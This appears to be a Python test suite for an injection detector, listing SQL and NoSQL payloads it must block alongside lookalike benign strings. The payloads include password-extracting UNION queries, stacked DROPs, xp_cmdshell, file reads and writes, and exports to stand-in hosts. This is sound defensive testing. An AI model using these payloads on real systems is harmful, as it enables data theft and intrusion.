        "SELECT user_id, COUNT(*) AS n FROM sessions GROUP BY user_id HAVING COUNT(*) > 19 "
        "ORDER BY n DESC;", "SELECT name, email FROM users WHERE id = 42;"])
    assert_blocked(edge, ["select * from users", "select * from users;--",
                          "SELECT 1; DROP TABLE users;", "select sleep(5);",
                          "select load_file('/etc/passwd');",
                          "select password from users into outfile '/var/www/x.php';",
                          "select 1 union select password from users;"])


def test_a_json_array_of_logic_words_passes(edge):
    """'["and", "x"]': the literal closed before the logic word is the
    array's "[", no value an attacker closes; one with a letter or a digit
    in it ("x'OR'a'='a"), or none at all, still breaks out."""
    assert_passed(edge, ['["and", "x"]', '["or","and"]', '{"ops": ["or", "and"]}'])
    assert_blocked(edge, ["x'OR'a'='a", "x'or'1'='1", "1'and'1", "'or'1'='1"])


def test_a_template_of_sql_is_no_statement(edge):
    """A dbt model ("select * from {{ ref('orders') }}"): a "{{" or "{%"
    outside the literals is no SQL any database parses, so its SELECT list,
    clauses, CASE and casts are the template's text. A breakout, UNION
    SELECT and the dangerous calls still count, and a "{{" the
    application's quote puts back in a literal hides nothing."""
    assert_passed(edge, ["select * from {{ source('shop', 'customers') }}",
                         "{{ config(materialized='table') }}\n\nselect region, sum(revenue) as "
                         "revenue\nfrom {{ ref('stg_payments') }}\ngroup by 1",
                         "select * from {{ ref('stg_leads') }}\n{% if is_incremental() %}\nwhere "
                         "updated_at >= (select coalesce(max(updated_at), '2025-03-15') from "
                         "{{ this }})\n{% endif %}"])
    assert_blocked(edge, ["x' UNION SELECT password FROM users WHERE 'a'='{{",
                          "1 UNION SELECT password FROM users -- {{x}}", "' or 1=1 -- {{ x }}",
                          "{{ x }} union select password from users", "select sleep(5) {{",
                          "select * from users where '{{'='{{'"])


def test_copy_after_a_breakout_is_a_statement(edge):
    """COPY (PostgreSQL's TO PROGRAM, Snowflake's COPY INTO a stage) and
    UNLOAD are statements a stacked query runs; "copy" in a sentence is a
    word."""
    assert_blocked(edge, ["2025-03-01'; COPY INTO 's3://x.example/dump/' FROM core.customers;--",
                          "1; COPY (SELECT '') TO PROGRAM 'id'",
                          "x'; UNLOAD ('select * from users') TO 's3://x.example/u';--"])
    assert_passed(edge, ["Please copy the file; copy it again", "I can't; copy it later"])


def test_a_comment_opener_inside_a_literal_hides_nothing(edge):
    """"142 and '/*' Union(Select ...": the "/*" is inside a literal its
    quote closes, so no comment that never ends swallows what follows; one
    after a breakout quote with no quote after it still runs to the end."""
    assert_blocked(edge, ["142 and '/*' Union(Select 1,2,version() From "
                          "information_schema.columns)--",
                          "1 and \"/*\" union select password from users--",
                          "x' and '/*' in (select table_name from information_schema.tables)#",
                          "admin'/*"])
    assert_passed(edge, ["glob: 'src/*' and 'docs/*' or \"lib/*\"",
                         "the pattern '/*' matches every path"])


def test_form_encoded_spaces_between_union_and_select(edge):
    """A payload whose spaces are a form's "+" (an application decodes
    the value once more)."""
    assert_blocked(edge, ["'+UNION+SELECT+1,password,3+FROM+users--+-",
                          "1+union+all+select+null,null--"])
    assert_passed(edge, ["C++ union types", "trade union + selection committee",
                         "union+station+selects"])


def test_mysql_statement_modifiers_after_a_stack(edge):
    """MySQL's statement grammar: DELETE [LOW_PRIORITY] [QUICK] [IGNORE]
    FROM, INSERT [LOW_PRIORITY|DELAYED|HIGH_PRIORITY] [IGNORE] INTO,
    UPDATE [LOW_PRIORITY] [IGNORE] t SET, REPLACE [LOW_PRIORITY|DELAYED]
    INTO, LOAD XML."""
    assert_blocked(edge, ["1; delete low_priority from foo", "1; delete quick ignore from t--",
                          "x'; insert ignore into users values (1,'a')--",
                          "1; insert high_priority into t select 1",
                          "1; update low_priority users set role='admin'--",
                          "1; replace delayed into t values (1)",
                          "1;load xml infile \"foo\""])
    assert_passed(edge, ["Step 1; delete the old files from the cache",
                         "Note 2; load the xml file later"])


def test_arithmetic_on_extracted_data_then_a_comment(edge):
    """"foo' + (1 / ASCII(substring(passwd,1,1))-4)--": the literal closed,
    arithmetic whose operand calls a function on a column, the rest
    commented out (blind extraction: a division by zero or not, character
    by character). A call in prose after a quote does not end in a
    comment."""
    assert_blocked(edge, ["foo' + (1 / ASCII(substring(passwd,1,1))-4)--",
                          "x'*length(database())#", "1'-(ascii(mid(user(),1,1))>64)-- -"])
    assert_passed(edge, ["it's + (see below) --", "Tom's - (max(3, 4)) pieces",
                         "John' + (friends) --"])


def test_a_value_opening_with_a_probe_then_words_is_a_sentence(edge):
    """"OR 1=1 meaning": a value that opens with the logic word goes on as
    SQL after the comparison (a clause, a comment, UNION, the end); words
    there are a search for the probe. After a breakout, or with SQL after
    it, the probe still counts."""
    assert_passed(edge, ["OR 1=1 meaning", "or 1=1 explained", "OR x=x example"])
    assert_blocked(edge, ["OR 1=1", "or 1=1 limit 1", "or 1=1 order by 1--",
                          "or 1=1 union select 1", "or 1=1)--", "1 OR 1=1 meaning",
                          "x' OR 1=1 meaning"])


def test_a_statement_shown_whole_or_quoted_by_an_error_passes(edge):
    """A DML or DDL statement whole, ended by its own ";" (no application's
    statement holds a ";"), or quoted by PostgreSQL's error report ("LINE
    1: INSERT INTO ..."), is shown, not injected. A stacked one, one with
    a comment after its ";", two statements, and one without the ";"
    still count."""
    assert_passed(edge, ["UPDATE orders SET status = 'shipped' WHERE id = 7;",
                         "DELETE FROM staging.events_tmp WHERE load_date < CURRENT_DATE;",
                         "INSERT INTO audit (kind) VALUES ('login');",
                         'ERROR: column "net_amount" of relation "payments" does not exist\n'
                         "LINE 1: INSERT INTO payments (net_amount) VALUES ($1)\n"
                         "                       ^"])
    assert_blocked(edge, ["1; UPDATE users SET role='admin' WHERE id=1;",
                          "DROP TABLE users;--", "UPDATE users SET role='admin' WHERE name='bob'",
                          "INSERT INTO users (name) VALUES ('x'); DELETE FROM users;",
                          "ERROR: x\nLINE 1: INSERT INTO users VALUES (1); DROP TABLE users",
                          "x'; DROP TABLE users;"])


def test_sql_in_a_markdown_code_block_is_shown(edge):
    """A note's fenced block (or a span of three backticks) prints its
    code as text: a whole statement, a SELECT list, a clause, a catalog's
    name or a generic call inside it is quoted. A breakout, UNION SELECT
    and the dangerous calls count inside it too, and the shapes outside
    it still do."""
    assert_passed(edge, [
        "## Cleanup\n\n```sql\nUPDATE accounts SET status = 'inactive'\n"
        "WHERE last_login < now() - interval '1 year';\n```\n\nRun it monthly.",
        "## Useful SQL\n\n```sql\nSELECT relname, pg_size_pretty(pg_total_relation_size(relid))\n"
        "FROM pg_catalog.pg_statio_user_tables\nORDER BY 2 DESC\nLIMIT 10;\n```",
        "```sql\nSELECT plan, COUNT(*)\nFROM staging.products\nGROUP BY 1;\n```\nUse this to check."])
    assert_blocked(edge, ["```\n1 union select password from users--\n```",
                          "```sql\nx' or 1=1--\n```", "```\nselect sleep(5)\n```",
                          "```x``` UPDATE users SET role='admin' WHERE name='bob'",
                          "```sql\nselect 1\n``` ' union select password from users--"])


def test_bracket_delimited_identifiers_are_names(edge):
    """T-SQL's and Access's "[name]" is a name: "OR [id]=[id]" compares a
    column with itself as "or id=id" does. A markdown checkbox or link
    label is no comparison."""
    assert_blocked(edge, ["OR [id]=[id]", "AND [x]=[x]", "HAVING [a]=[a]", "1 OR [id]=[id]--",
                          "x' OR [Order Details]=[Order Details]--"])
    assert_passed(edge, ["- [x] done or [ ] todo", "see [1] or [2] for details",
                         "[draft] or [final]: which one?"])


def test_a_sleep_call_a_word_of_text_follows_is_a_line_of_text(edge):
    """"sleep(0) called" (a test's output), "time.sleep(5) seconds later":
    SQL has the end, a comment, an operator, a closer or its own words
    after the call, never a word of text."""
    assert_passed(edge, ["    sleep(0) called\n    sleep(1) called", "time.sleep(5) seconds later"])
    assert_blocked(edge, ["sleep(5)", "1 or sleep(5)#", "1) or sleep(5) limit 1--",
                          "x' and sleep(5) and 'a'='a", "sleep(5) -- x", "sleep(10)/*"])


def test_a_statement_a_call_takes_in_code_is_the_applications_own(edge):
    """'cu.execute("insert into lang values (?, ?)", row)': code that runs
    a query it wrote, shown in a note; the shape rules read the code
    around the string. A breakout and a stacked statement still count."""
    assert_passed(edge, ['    # insert values into a table\n'
                         '    cu.execute("insert into lang values (?, ?)", ("C", 1972))',
                         'db.query("DELETE FROM sessions WHERE expires_at < now()")'])
    assert_blocked(edge, ["x'); insert into users values ('a','b')--",
                          "foo(\"x\") UPDATE users SET role='admin' WHERE name='bob'",
                          "1; exec('drop table users')--"])


def test_a_range_in_a_call_is_a_sheets_or_a_languages(edge):
    """"sum(A1:A10)", "sum(x -> x^2, 1:10)": two operands joined by ":"
    are a sheet's range or Julia's and R's, no SQL (a cast is "::", a
    placeholder follows an operator). SQL's calls as whole values still
    count."""
    assert_passed(edge, ["sum(A1:A10)", "max(B2:B20)", "sum(x -> x^2, 1:10)"])
    assert_blocked(edge, ["concat(0x41,user())", "concat(user(),0x3a,database())",
                          "benchmark(1000000,md5(1))"])


def test_a_credentials_field_filtered_by_more_than_equality_is_an_oracle(edge):
    """'{"login": "root", "password": {"$regex": "^a9"}}': a secret
    compared with a prefix, a pattern or its mere presence answers yes or
    no a character at a time, in a filter document or a query string's
    brackets (Strapi's "[$startsWith]", Directus's "_starts_with").
    Equality is a login's own check, and a count named for tokens compared
    with a number is a count."""
    assert_blocked(edge, [
        '{"login": "root", "password": {"$regex": "^a9"}}',
        '{"selector": {"name": "root", "derived_key": {"$regex": "^a1"}}}',
        "filters[owner][password][$startsWith]=$2b$12$x",
        '{"account": {"api_key": {"_starts_with": "sk_live_4"}}}',
        "where[resetToken][$notNull]=true"])
    assert_passed(edge, [
        '{"username": "bob", "password": {"$eq": "hunter2"}}',
        '{"tokens": {"$gt": 100}, "model": "small"}',
        '{"hashtags": {"$in": ["coffee", "tea"]}}'])


def test_a_regex_operand_that_nests_quantifiers_is_a_denial_of_service(edge):
    """'{"city": {"$regex": "^([a-z]+\\s?)*$"}}': a group that holds a
    quantifier, itself quantified, backtracks catastrophically on a string
    that almost matches. A quantified group without one inside, or a
    quantifier inside a group that is not quantified, does not."""
    assert_blocked(edge, ['{"city": {"$regex": "^([a-z]+\\\\s?)*$"}}',
                          '{"email": {"$regex": "^([a-z0-9]+)+@x\\\\.io$"}}',
                          '{"title": {"$regex": "(x.*y){30}"}}'])
    assert_passed(edge, ['{"sku": {"$regex": "^(ab){2}-[0-9]+$"}}',
                         '{"sku": {"$regex": "^([A-Z]{2})-\\\\d+$"}}',
                         '{"name": {"$regex": "^(Mr|Ms)\\\\.? [A-Z][a-z]+$"}}'])


def test_a_metrics_label_matcher_in_a_call_is_no_sql(edge):
    """"sum(rate(http_requests_total{job=\\"api\\",code=~\\"5..\\"}[5m]))":
    a name glued to an operator after a brace is a label matcher or an
    object literal; SQL's braces are ODBC's escapes. SQL's calls with SQL
    arguments still count."""
    assert_passed(edge, ['sum(rate(http_requests_total{job="api",code=~"5.."}[5m]))',
                         'max(rate(queue_depth{service="auth"}[10m])) by (instance)'])
    assert_blocked(edge, ["concat(0x41,user())", "substring(version(),1,1)",
                          "1 and extractvalue(1,concat(0x7e,version()))"])


def test_a_filter_document_that_opens_with_its_logic_is_a_filter(edge):
    """'{"$and": [{"plan": "pro"}, {"seats": {"$gte": 5}}]}': $and, $or,
    $nor, $expr, $text, $jsonSchema and a pipeline's $match stand only
    where a whole filter does, never for a field's scalar; what they hold
    is still read operator by operator. Logic given no list is a probe,
    and a stage that writes ($out, $merge) is no filter's."""
    assert_passed(edge, ['{"$and": [{"plan": "pro"}, {"seats": {"$gte": 5}}]}',
                         '[{"$match": {"state": "open"}}, {"$group": {"_id": "$owner", '
                         '"n": {"$sum": 1}}}]',
                         '{"$expr": {"$lt": ["$used", "$quota"]}}'])
    assert_blocked(edge, ['{"$ne": ""}', '{"$gt": ""}', '{"$and": [{"pin": {"$ne": null}}]}',
                          '[{"$match": {"$where": "sleep(100) || true"}}]',
                          '{"$nor": "x"}', '[{"$match": {"a": 1}}, {"$out": "admins"}]'])


def test_a_tautology_in_a_filter_expression_or_carried_query_string(edge):
    """"status==open or 'z'='z'", "size=2 OR 1=1&sort=asc": a short
    literal compared with itself after a filter's own condition, and a
    constant comparison followed by the next parameter of a query string
    the value carries ("&name=", "&name[key]="), make every row match.
    Two unlike literals, prose, and MySQL's "&" between a comparison and a
    word (no "=" after it) are no tautology."""
    assert_blocked(edge, ["status==open or 'z'='z'", "owner eq 'bob' or \"k\"=\"k\"",
                          "size=2 OR 1=1&sort=asc", "price[gte]=5 OR 1=1&color[eq]=red",
                          "kind=a or y=y&page=2"])
    assert_passed(edge, ["a='b' or 'c'='d'", "he said 'yes' or 'no'='no' twice",
                         "q=this or that&page=2", "x=1 or 2=2&y", "tags=a&b=c&d=1=1"])


def test_a_carried_query_string_of_filters_is_read_operator_by_operator(edge):
    """"filters[name][$containsi]=wool&sort[0]=price:asc": Strapi's and
    qs's brackets in a saved view's URL. Every operator in a parameter
    named filter(s) or where is read with its operand as a filter
    document's are; one anywhere else ("username[$ne]=x") stands where a
    scalar was expected."""
    assert_passed(edge, ["filters[name][$containsi]=wool&filters[price][$lte]=80&sort[0]=price:asc",
                         "filters[$or][0][city][$eq]=Porto&filters[$or][1][city][$eq]=Braga",
                         "filter[stock][$gte]=3"])
    assert_blocked(edge, ["username[$ne]=toto&password[$ne]=toto", "filters[title][$ne]=",
                          "filters[title][$gt]=", "filters[title][$regex]=.*",
                          "filters[title][$where]=sleep(100)", "filters[title][$exists]=true",
                          "filters[name][$eq]=a&user[$ne]=x", "where[owner][$ne]=1"])


def test_a_logic_word_and_a_call_cut_off_by_a_comment(edge):
    """" or pg_sleep(__X__)#": a value that opens with the logic word and a
    call, then only a bare comment, is SQL cutting off the rest of the
    condition. A comment that says something, or a hashtag, is text."""
    assert_blocked(edge, [" or pg_sleep(__X__)#", " OR wait_for(3)-- "])
    assert_passed(edge, ["Or maybe(later) #2", "or reschedule(next week) -- ask Sam first"])


def test_a_method_call_and_another_dotted_name_joined_by_ampersands(edge):
    """"user.plan.startsWith('pro') && quota.used() < 500": a method called
    on a dotted name from the first byte, "&&", then another dotted name
    is a program's expression (CEL, JavaScript, Java rules); MySQL, the
    one SQL that writes "&&", calls no method on a name. "||" (Oracle's
    concatenation between package calls), a call or literal after the
    "&&", and a quote closed first are still read as SQL."""
    assert_passed(edge, ["user.plan.startsWith('pro') && quota.used() < 500",
                         "doc.tags.includes(\"beta\") && !(viewer.banned)",
                         "a.b.matches('^x$') && c.d == 'y'"])
    assert_blocked(edge, ["x.y('a') && sleep(5)", "x.y('a') && 1=1",
                          "u.v(1) || utl_http.request('http://e.example/')",
                          "' && this.secret.match(/^a/)//", "abs(1) && sleep(5)"])


def test_a_literal_compared_with_itself_left_open_for_the_applications_quote(edge):
    """"name='bob' OR 'k'='k": after a filter's own condition, a short
    literal compared with the same literal left open at the value's end,
    for the application's closing quote. Unlike literals, or words after
    the open one, are no such comparison."""
    assert_blocked(edge, ["name='bob' OR 'k'='k", "kind eq 'a') or ('q'='q",
                          "title eq 'x' and 'b'='b"])
    assert_passed(edge, ["name='bob' OR 'k'='j", "name='bob' or 'k'='k and so on",
                         "it's 'a' or 'b'"])


def test_a_hex_literal_that_spells_a_statement(edge):
    """"0x73656c656374...": a hex literal whose bytes, ASCII or UTF-16LE as
    nvarchar holds them, spell a statement (EXEC(@s) or a CAST runs it).
    A wallet address, a hash and hex-encoded words are no statement."""
    statement = "select @@servername".encode()
    assert_blocked(edge, ["0x" + statement.hex(), "0x" + statement.hex().upper() + " --",
                          "0x" + "exec xp_cmdshell 'net user'".encode("utf-16-le").hex(),
                          "1; declare @q nvarchar(99) set @q=0x" + "waitfor delay '0:0:4'"
                          .encode().hex()])
    assert_passed(edge, ["0x52908400098527886E0F7030069857D2E4169EE7",
                         "0x" + bytes(range(40, 80)).hex(), "0x" + "see you at noon".encode().hex(),
                         "sha 0x9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"])


def test_a_call_after_the_logic_word_compared_with_the_applications_quote(edge):
    """" or pg_sleep(4)='": a value that opens with the logic word and a
    call compared with an empty literal the application's quote closes;
    and a bare comment the template's quote ends ("or 1 --'")."""
    assert_blocked(edge, [" or pg_sleep(4)='", ' OR benchmark(9,md5(1))="', " or 2 --'"])
    assert_passed(edge, ["or reschedule(next week)='ok' with Sam", "or maybe(later)"])


def test_a_formula_that_calls_and_or_or_is_no_sql_call(edge):
    """"IF(OR({Stage}=\\"won\\",[Paid]>0),\\"y\\",\\"n\\")": a formula calls AND,
    OR and XOR as functions; in SQL they join two operands, and no
    expression starts with one. A call whose arguments SQL reads still
    counts."""
    assert_passed(edge, ['IF(OR([Stage]="won",[Paid]>0),"y","n")',
                         "if(and(score>=7,votes>20),1,0)"])
    assert_blocked(edge, ["if(2=2,sleep(4),0)", "if(and(1),benchmark(99,md5(1)),0)"])


def test_a_statement_in_a_markdown_code_span_is_shown(edge):
    """"Is `UPDATE carts SET paid = true` safe here?": a one-backtick span of
    words is one identifier to MySQL and no SQL to other databases, so a
    statement in it is shown, as in a fence. MySQL's quoted names
    ("`carts`"), a span an identifier's breakout opens ("` AS `x` from")
    and SQL outside the span still count."""
    assert_passed(edge, ["Is `UPDATE carts SET paid = true` safe to run twice?",
                         "Try `SELECT sku, qty FROM stock WHERE qty < 3` in the console."])
    assert_blocked(edge, ["UPDATE `carts` SET `paid`=1 WHERE `id`=7",
                          "` AS `pwd_hash` from", "`x y` UNION SELECT pass FROM staff",
                          "ALTER TABLE `carts` ADD `note` TEXT CHARACTER SET latin1"])


def test_xpath_jmespath_and_jq_are_no_sql(edge):
    """"sum(//line[qty>2]/price)", "max_by(orders[?paid], &total)" and
    "select(.state == \\"done\\") | .id": an XPath from the root, a
    JMESPath filter and jq's select over a path. "/" and "[?" start no SQL
    operand ("/*" starts a comment), and a path from "." is none (a
    number's dot has a digit after it). An XPath that walks any node, a
    blind probe of the document, still counts."""
    assert_passed(edge, ["sum(//line[qty>2]/price)", "max_by(orders[?paid], &total)",
                         'select(.state == "done") | .id'])
    assert_blocked(edge, ["if(1=1,/**/sleep(4),0)", "select(.5) from dual where 1=1 --",
                          "count(/*x*/(select password from staff))",
                          "count(/descendant::node())", "sum(/child::*)"])
